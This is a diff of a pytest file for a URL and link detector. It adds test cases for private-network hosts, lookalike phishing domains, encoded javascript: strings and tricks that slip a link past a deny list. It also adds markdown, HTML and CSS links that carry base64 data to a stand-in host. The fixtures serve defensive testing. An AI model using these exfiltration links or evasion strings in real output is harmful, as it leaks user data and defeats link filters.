@@ -45,6 +45,16 @@ def found(text: str, detector: Urls = PLAIN) -> set[str]:
         ("private", "http://[::1]:80", "http://[2606:4700::1]"),
         ("private", "localhost:8080/x", "https://localhost.com"),
         ("private", "http://metadata.google.internal/", "http://internal.google.com"),
+        ("private", "http://10.0.0.1.nip.io/x", "http://8.8.8.8.nip.io/"),
+        ("private", "http://a-127-0-0-1.sslip.io", "http://sslip.io"),
+        ("private", "http://x.lvh.me:3000", "http://lvh.me.example.com"),
+        ("lookalike", "https://paypal-com.login.example", "https://pay-pal.community.example"),
+        ("lookalike", "https://paypal.com-login.example", "https://my-paypal.example"),
+        ("lookalike", "https://www.payqal.com", "https://papal.com"),
+        ("lookalike", "https://paypal.com.evil.co.uk", "https://paypal.com.br"),
+        ("script", "java&#115;cript:alert(1)", "java&amp;script:alert(1)"),
+        ("script", "javascript&colon;alert(1)", "javascript&nbsp;alert(1)"),
+        ("scheme", "da\tta:,x", "da ta:,x"),
         ("userinfo", "https://a.com@b.com/", "https://b.com/@a.com"),
         ("userinfo", "https://b.com\\@a.com", "https://b.com?@a.com"),
         ("lookalike", "https://p\u0430ypal.com/", "https://paypal.com/"),
@@ -77,6 +87,13 @@ def test_each_form_and_its_near_miss(leaf: str, link: str, near: str) -> None:
         ('<img src="https://e.example/p?q={{secret}}">', True),
         (f"![x](https://e.example/{'a' * 130})", True),
         ("![x][1]\n\n[1]: https://e.example/p?d=SGVsbG8gd29ybGQ=", True),
+        ("<img srcset='/a.png 1x, https://e.example/p?d=SGVsbG8gd29ybGQ= 2x'>", True),
+        ("<style>@import 'https://e.example/p?d=SGVsbG8gd29ybGQ=';</style>", True),
+        ("a{background: url( https://e.example/p?d=SGVsbG8gd29ybGQ=)}", True),
+        ('<meta content="0;url=https://e.example/p?d=SGVsbG8gd29ybGQ=">', True),
+        ("<img src=//e.example/p?d=SGVsbG8gd29ybGQ=>", True),
+        ("![x](https://SGVsbG8gd29ybGQh.e.example/p.png)", True),
+        ("![x](https://my-long-bucket-name-eu-west.e.example/p.png)", False),
         ("![x](https://e.example/p.png?w=400&h=300&v=2)", False),
         ("![x](https://e.example/how-to-write-a-long-title-for-an-article.png)", False),
         ("[x](https://e.example/?id=123e4567-e89b-12d3-a456-426614174000)", False),
@@ -95,6 +112,9 @@ DRESSES = {
     "fullwidth": "https://\uff45\uff56\uff49\uff4c\uff0e\uff43\uff4f\uff4d", "zero width": "https://e\u200bvi\u200dl.com",
     "soft hyphen": "ht\u00adtps://evil.com", "homoglyph": "https://\u0435vil.com", "defanged": "hxxps://evil[.]com",
     "backslash": "https:\\\\evil.com", "relative": "//evil.com/x", "bare": "evil.com", "comma": "https://evil.com,b.org",
+    "torn name": "https://allowed.com\t.evil.com", "torn scheme": "htt\nps://evil.com", "torn user": "https://allowed.com\n@evil.com",
+    "second": "https://allowed.com/x,evil.com/y", "in brackets": "https://allowed.com/x(https://evil.com", "one dot leader": "evil\u2024com/x",
+    "reference": "https&colon;//evil&period;com", "circled": "\u24d4\u24e5\u24d8\u24db.\u24d2\u24de\u24dc",
     "mail": "mailto:a@allowed.com,b@evil.com", "copy": "mailto:a@allowed.com?cc=b@evil.com",
 }  # fmt: skip
 
@@ -119,6 +139,7 @@ def test_no_dress_escapes_the_deny_list(dress: str, before: str, after: str) -> 
         "https://evil.com#allowed.com", "https://allowedxcom", "https://evil.com\\@allowed.com", "https://allowed.com\\@evil.com",
         "https://notallowed.com", "https://allowed.co", "https://\u0430llowed.com", "https://allowed.com%2F@evil.com",
         "https://evil.com%2F.allowed.com", "https://evil.com%00.allowed.com", "https://evil.com\x00.allowed.com", "https://evil.com\uff0f.allowed.com", "https://allowed.com(@evil.com",
+        "https://allowed.com\n.b.com", "https://allowed.com\tpany", "data:text/plain,allowed.com,x", "da\nta:,x",
         "https://allowed.com,b.evil.com", "https://allowed.com:80@evil.com", "javascript:allowed.com", "data:,allowed.com",
     ],
 )  # fmt: skip
@@ -143,6 +164,40 @@ def test_any_text_has_an_answer(text: str) -> None:
     findings = LISTS.detect([Text(text)])[0].findings
     assert len({(each.category, each.span) for each in findings}) == len(findings)
     assert all(each.span and 0 <= each.span[0] < each.span[1] <= len(text) for each in findings)
+
+
+def test_a_customer_of_a_host_is_not_the_host() -> None:
+    """Below a public suffix everybody has a name of his own, and none is let in by another's."""
+    mine = build(allow=["me.github.io", "example.co.uk"])
+    assert "not_allowed" not in found("https://x.me.github.io https://a.example.co.uk", mine)
+    for url in (
+        "https://you.github.io",
+        "https://github.io",
+        "https://b.co.uk",
+        "https://me.github.io.evil.io",
+    ):
+        assert "not_allowed" in found(url, mine)
+    assert "lookalike" in found("https://rne.github.io", mine)
+    assert "lookalike" not in found("https://you.github.io", mine)
+
+
+def test_a_link_without_a_host_is_allowed_by_its_scheme() -> None:
+    """No list of hosts can name it: the policy's schemes do."""
+    data = build(allow=["a.com"], schemes=["https", "data"])
+    assert "not_allowed" not in found("data:image/png;base64,SGk=", data)
+    assert "not_allowed" in found("tel:123", data)
+    assert "not_allowed" in found("da\tta:image/png;base64,SGk=", data)
+
+
+def test_one_letter_is_less_sure_than_a_trick() -> None:
+    """A name that differs by one letter may be somebody's own: its score says so."""
+    scores = {
+        url: [
+            each.score for each in PLAIN.detect([Text(url)])[0].findings if each.category == "url.lookalike"
+        ]
+        for url in ("https://payqal.com", "https://paypa1.com", "https://example.net")
+    }
+    assert scores == {"https://payqal.com": [0.7], "https://paypa1.com": [1.0], "https://example.net": []}
 
 
 def test_both_views_of_a_link_are_one_finding() -> None:
@@ -192,7 +247,24 @@ def test_clean_prose_costs_microseconds() -> None:
 
 
 @pytest.mark.parametrize(
-    "piece", ["https://\u00e9.", "\u00e9.a.", "a.com)", "![](http://a?", "data:,", "http://a@"]
+    "piece",
+    [
+        "https://\u00e9.",
+        "\u00e9.a.",
+        "a.com)",
+        "![](http://a?",
+        "data:,",
+        "http://a@",
+        "a.com,",
+        "a.co\t",
+        "&#65;",
+        "href='\t",
+        "http://a\t",
+        "(a.b",
+        "srcset='x ,",
+        "\u00e9.a\u2024",
+        "xn--a.",
+    ],
 )
 def test_time_grows_with_the_text_alone(piece: str) -> None:
     """Judging is as linear as finding: an endless host or many links cost what their length does."""
